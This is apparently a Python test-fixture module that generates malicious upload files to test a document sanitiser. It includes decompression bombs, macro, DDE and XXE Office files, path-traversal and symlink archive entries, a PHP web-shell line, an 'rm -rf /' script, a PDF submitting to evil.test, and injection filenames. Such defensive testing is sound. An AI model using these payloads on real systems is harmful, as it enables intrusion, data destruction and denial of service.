"""Documents that somebody may send to harm: each is made here, none is stored.

`REFUSED` and `KEPT` give, by what the file pretends to be, the function that makes its bytes. What is kept comes out
without `MARK` and without anything of `ACTIVE`.
"""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from PIL import Image, PngImagePlugin

MARK = b"zqcanari"
ACTIVE = (
    MARK, b"<script", b"/JavaScript", b"/Launch", b"/EmbeddedFile", b"/OpenAction", b"/SubmitForm", b"/XFA", b"GPS",
    b"/RichMedia", b"PK\x03\x04",
)  # fmt: skip
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MEGABYTE = 1_000_000
Make = Callable[[], bytes]
SCRIPT = b"<html><script>alert('zqcanari')</script></html>"
STORED, PACKED = zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED


def archive(parts: dict[str, bytes], packing: int = PACKED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def docx(
    name: str = "word/styles.xml", content: bytes = b"<styles/>", types: bytes = b"<Types/>", packing: int = PACKED
) -> bytes:
    """A document of Word with one more part."""
    return archive({"[Content_Types].xml": types, "word/document.xml": b"<document/>", name: content}, packing)


def xlsx(name: str, content: bytes) -> bytes:
    return archive({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>", name: content})


def odt(name: str, content: bytes = b"x") -> bytes:
    kind = b"application/vnd.oasis.opendocument.text"
    return archive({"mimetype": kind, "content.xml": b"<x/>", name: content})


def relationship(kind: str, target: str = "http://evil.test/a.dotm") -> bytes:
    told = f'<Relationship Id="r1" Type="http://x/relationships/{kind}" TargetMode="External" Target="{target}"/>'
    return docx("word/_rels/document.xml.rels", f"<Relationships>{told}</Relationships>".encode())


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda made: None, lock: pikepdf.Encryption | None = None) -> bytes:
    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    change(made)
    made.save(out, encryption=lock)
    return out.getvalue()


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written by hand, with its table; object 1 is its root."""
    body, places = b"%PDF-1.7\n", []
    for rank, content in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (rank, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n" % size
    return body + head + table + b"trailer\n<< /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, len(body))


def of_many_pages(count: int = 100_000) -> bytes:
    """As many pages as asked, all the same object."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, b"3 0 R " * count),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    )


def of_pages_within_pages(depth: int = 9, width: int = 10) -> bytes:
    """A few lines that unfold into width ** depth pages."""
    levels = [
        b"<< /Type /Pages /Count %d /Kids [%s] >>" % (width ** (depth - rank), b"%d 0 R " % (rank + 3) * width)
        for rank in range(depth)
    ]
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", *levels, b"<< /Type /Page /MediaBox [0 0 9 9] >>")


def deflated(size: int) -> bytes:
    """So many zeros, packed a thousand times smaller."""
    packer = zlib.compressobj(9)
    block = b"\0" * MEGABYTE
    return b"".join([*(packer.compress(block) for _ in range(size // MEGABYTE)), packer.flush()])


def lzw(size: int) -> bytes:
    """So many zeros in LZW, about a thousand times smaller: each code stands for one zero more than the last."""
    bits: list[str] = []
    done, width = 0, 9
    while done < size:
        bits.append(f"{256:0{width}b}{0:09b}")
        done, code, width = done + 1, 258, 9
        for length in range(2, 3_700):
            bits.append(f"{code:0{width}b}")
            done, code = done + length, code + 1
            width = 9 + (code >= 511) + (code >= 1_023) + (code >= 2_047)
    told = "".join(bits) + f"{257:0{width}b}"
    told += "0" * (-len(told) % 8)
    return int(told, 2).to_bytes(len(told) // 8, "big")


def of_swollen_objects(packed: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    """A document whose objects are in a stream that swells."""
    told = b"<< /Type /ObjStm /N 1 /First 4 /Filter %s /Length %d >>\nstream\n%s\nendstream"
    body = b"%PDF-1.7\n2 0 obj\n" + told % (filters, len(packed), packed) + b"\nendobj\n"
    rows = b"".join(struct.pack(">BIB", *row) for row in ((0, 0, 0), (2, 2, 0), (1, 9, 0), (1, len(body), 0)))
    told = b"<< /Type /XRef /Size 4 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream" % (len(rows), rows)
    return body + b"3 0 obj\n" + told + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


def of_swollen_pages() -> bytes:
    """Pages whose drawing swells: a reader unfolds it, we do not."""
    packed = deflated(1_000 * MEGABYTE)
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
        b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(packed), packed),
    )


def armed() -> bytes:
    """Runs a script, launches a program, sends a form, hides a file, tells its author."""

    def arm(made: pikepdf.Pdf) -> None:
        name = pikepdf.Name
        made.Root.OpenAction = pikepdf.Dictionary(S=name.JavaScript, JS="app.alert('zqcanari')")
        made.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(S=name.SubmitForm, F="http://evil.test/zqcanari"))
        made.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.String("zqcanari"))
        made.attachments["zqcanari.exe"] = b"MZ zqcanari"
        launch = pikepdf.Dictionary(S=name.Launch, F="zqcanari.exe")
        link = pikepdf.Dictionary(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 9, 9], A=launch)
        film = pikepdf.Dictionary(Type=name.Annot, Subtype=name.RichMedia, Rect=[0, 0, 9, 9], Contents="zqcanari")
        made.pages[0].Annots = pikepdf.Array([link, film])
        made.docinfo["/Author"] = "zqcanari"

    return pdf(arm)


def picture(form: str = "JPEG", size: tuple[int, int] = (40, 30), **told: Any) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 90).convert("RGB").save(out, form, **told)
    return out.getvalue()


def with_place() -> bytes:
    """A photograph that tells where, when and by what it was taken."""
    told = Image.Exif()
    told[0x010E], told[0x010F] = MARK.decode(), "Appareil zqcanari"
    told.get_ifd(0x8825)[1] = "N"
    return picture(exif=told, comment=MARK)


def huge_png(side: int = 30_000) -> bytes:
    """Nine hundred million pixels in a hundred kilobytes."""
    row = b"\0" * (1 + side // 8)
    packer = zlib.compressobj(9)
    data = b"".join([*(packer.compress(row) for _ in range(side)), packer.flush()])
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(map(chunk, (b"IHDR", b"IDAT", b"IEND"), (head, data, b"")))


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def swollen_text() -> bytes:
    """A picture whose caption unfolds into two hundred megabytes."""
    small = picture("PNG", (4, 4))
    return small[:33] + chunk(b"zTXt", b"Comment\0\0" + deflated(200 * MEGABYTE)) + small[33:]


def huge_jpeg() -> bytes:
    """A JPEG that says it is 60 000 pixels wide and high."""
    small = bytearray(picture())
    place = small.index(b"\xff\xc0") + 5
    small[place : place + 4] = struct.pack(">HH", 60_000, 60_000)
    return bytes(small)


def gif_that_is_a_script() -> bytes:
    out = io.BytesIO()
    Image.new("P", (4, 4)).save(out, "GIF")
    return out.getvalue() + b"*/=1;alert('zqcanari')"


def with_caption() -> bytes:
    told = PngImagePlugin.PngInfo()
    told.add_itxt("XML:com.adobe.xmp", "<x>zqcanari</x>")
    told.add_text("Comment", "zqcanari")
    return picture("PNG", pnginfo=told)


def locked_zip() -> bytes:
    """A document whose parts ask for a password: the bit that says so is set."""
    made = bytearray(docx())
    made[6] |= 1
    made[made.index(b"PK\x01\x02") + 8] |= 1
    return bytes(made)


def lying_zip() -> bytes:
    """A part of ten megabytes that says it has ten bytes."""
    made = bytearray(docx("word/a.xml", b"\0" * 10 * MEGABYTE))
    last = made.rindex(b"PK\x01\x02")
    made[last + 24 : last + 28] = struct.pack("<I", 10)
    return bytes(made)


def symlink() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as made:
        entry = zipfile.ZipInfo("word/../../../etc/passwd")
        entry.external_attr = 0o120777 << 16
        made.writestr(entry, "/etc/passwd")
    return out.getvalue()


def laughs() -> bytes:
    entities = b"".join(b'<!ENTITY l%d "%s">' % (rank, b"&l%d;" % (rank - 1) * 10) for rank in range(1, 10))
    return docx("word/document2.xml", b'<!DOCTYPE x [<!ENTITY l0 "lol">' + entities + b"]><x>&l9;</x>")


REFUSED: dict[str, Make] = {
    # Not what it says.
    "statuts.pdf, a program for Windows": lambda: b"MZ\x90\0" + b"\0" * 500,
    "statuts.docx, a program for Windows": lambda: b"MZ\x90\0This program cannot be run in DOS mode" + b"\0" * 500,
    "statuts.pdf, a program for Linux": lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 500,
    "statuts.pdf, a page with a script": lambda: SCRIPT,
    "statuts.pdf, a script of the shell": lambda: b"#!/bin/sh\nrm -rf /\n",
    "statuts.pdf, a shortcut": lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60,
    "statuts.pdf, PHP": lambda: b"<?php system($_GET['c']); ?>",
    "logo.png, an SVG with a script": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>",
    "logo.png, an SVG with its declaration": lambda: b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>",
    "note.docx, RTF with an object": lambda: rb"{\rtf1{\object\objdata 0105000002}}",
    "page.pdf, HTML before a PDF": lambda: SCRIPT + pdf(),
    "plan.jpg, a TIFF": lambda: picture("TIFF"),
    "plan.jpg, a BMP": lambda: picture("BMP"),
    "plan.jpg, an icon": lambda: picture("ICO"),
    "plan.jpg, a WMF": lambda: b"\xd7\xcd\xc6\x9a" + b"\0" * 200,
    "photo.heic, empty inside": lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 200,
    "texte.txt": lambda: b"Bonjour",
    "eicar.com": lambda: EICAR,
    # Bombs.
    "docx, a thousand times larger once open": lambda: docx("word/a.xml", b"\0" * 20 * MEGABYTE),
    "docx, of three thousand parts": lambda: docx_of_parts(3_000),
    "docx, a part that lies about its size": lying_zip,
    "xlsx, entities that laugh": laughs,
    "zip within zip": lambda: archive({"a.zip": archive({"b.zip": archive({"c": b"\0" * MEGABYTE})})}),
    "docx, a zip within": lambda: docx("word/embeddings/a.zip", archive({"c": b"\0" * MEGABYTE})),
    "gzip, a thousand times larger once open": lambda: gzip.compress(b"\0" * 10 * MEGABYTE),
    "png, nine hundred million pixels": huge_png,
    "png, a caption of two hundred megabytes": swollen_text,
    "jpg, that says 3 600 million pixels": huge_jpeg,
    "pdf, a hundred thousand pages": of_many_pages,
    "pdf, a thousand million pages in ten lines": of_pages_within_pages,
    "pdf, objects a thousand times larger once open": lambda: of_swollen_objects(deflated(1_000 * MEGABYTE)),
    "pdf, objects packed twice": lambda: of_swollen_objects(
        zlib.compress(deflated(2_000 * MEGABYTE)), b"[/FlateDecode /FlateDecode]"
    ),
    "pdf, objects swollen in LZW": lambda: of_swollen_objects(lzw(1_000 * MEGABYTE), b"/LZWDecode"),
    "pdf, objects swollen in LZW by another name": lambda: of_swollen_objects(lzw(1_000 * MEGABYTE), b"/#4cZWDecode"),
    "pdf, a page a thousand times larger once open": of_swollen_pages,
    # What runs, or calls home.
    "docm, macros": lambda: docx("word/vbaProject.bin", MARK),
    "docx, macros by its type": lambda: docx(types=b"<Types>application/vnd.ms-word.document.macroEnabled</Types>"),
    "xlsx, macros": lambda: xlsx("xl/vbaProject.bin", MARK),
    "xlsx, macros of Excel 4": lambda: xlsx("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"),
    "xlsx, a DDE link": lambda: xlsx("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink/></externalLink>"),
    "docx, a DDE field": lambda: docx("word/a.xml", b"<w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText>"),
    "docx, a simple DDE field": lambda: docx("word/a.xml", b'<w:fldSimple w:instr="DDE cmd"/>'),
    "docx, an OLE object": lambda: docx("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),
    "docx, an ActiveX control": lambda: docx("word/activeX/activeX1.xml", b"<x/>"),
    "docx, a template elsewhere": lambda: relationship("attachedTemplate"),
    "docx, an object elsewhere": lambda: relationship("oleObject", "\\\\evil.test\\a"),
    "docx, a picture elsewhere": lambda: relationship("image"),
    "odt, macros": lambda: odt("Basic/Standard/Module1.xml"),
    "odt, a script": lambda: odt("Scripts/python/a.py"),
    "odt, an object": lambda: odt("Object 1/content.xml"),
    "docx, an external entity": lambda: docx("word/a.xml", b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'),
    "doc, of Word 97": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "jar": lambda: archive({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}),
    "epub": lambda: archive({"mimetype": b"application/epub+zip", "content.xml": b"<x/>"}),
    # Names of parts.
    "docx, that climbs out": lambda: docx("../../etc/passwd", b"x"),
    "docx, from the root": lambda: docx("/etc/passwd", b"x"),
    "docx, that climbs out as on Windows": lambda: docx("word\\..\\..\\a.xml", b"x"),
    "docx, a link to elsewhere": symlink,
    # Locked, broken.
    "pdf, locked": lambda: pdf(lock=pikepdf.Encryption(user="secret", owner="secret")),
    "docx, locked": locked_zip,
    "empty": lambda: b"",
    "pdf, cut short": lambda: pdf()[:60],
    "jpg, cut short": lambda: picture()[:300],
    "png, cut short": lambda: picture("PNG")[:60],
    "docx, cut short": lambda: docx()[:-30],
    "pdf, only its first line": lambda: b"%PDF-1.7\n",
    "zip, only its first bytes": lambda: b"PK\x03\x04",
    "one byte over the limit": lambda: b"%PDF-" + b"\0" * (10 * MEGABYTE - 4),
}
KEPT: dict[str, Make] = {
    "pdf, armed": armed,
    "pdf, HTML after it": lambda: pdf() + SCRIPT,
    "pdf, HTML in a comment": lambda: b"%PDF-1.7\n%" + SCRIPT + b"\n" + pdf()[9:],
    "pdf, a zip after it": lambda: pdf() + archive({MARK.decode(): MARK}),
    "pdf, that forbids printing": lambda: pdf(lock=pikepdf.Encryption(user="", owner="zqcanari")),
    "gif, that is a script": gif_that_is_a_script,
    "jpg, that tells where it was taken": with_place,
    "png, with a caption": with_caption,
    "jpg, PHP after it": lambda: picture() + b"<?php zqcanari ?>",
    "jpg, a zip after it": lambda: picture() + archive({MARK.decode(): MARK}),
    "webp, with a place": lambda: picture("WEBP", exif=b"Exif\0\0II*\0\x08\0\0\0\0\0zqcanari"),
}
NAMES = (
    "../../etc/passwd", "..\\..\\statuts.pdf", "statuts\u202efdp.exe", "a" * 300 + ".pdf", "statuts.pdf.exe", "CON.pdf",
    ".htaccess", "statuts.pdf\r\nX-Injected: 1", 'sta"tuts;.pdf', "<script>.pdf", "statuts.php", "\u0000.pdf",
)  # fmt: skip


def docx_of_parts(count: int) -> bytes:
    parts = {f"word/{rank}.xml": b"<x/>" for rank in range(count)}
    return archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<x/>", **parts}, STORED)
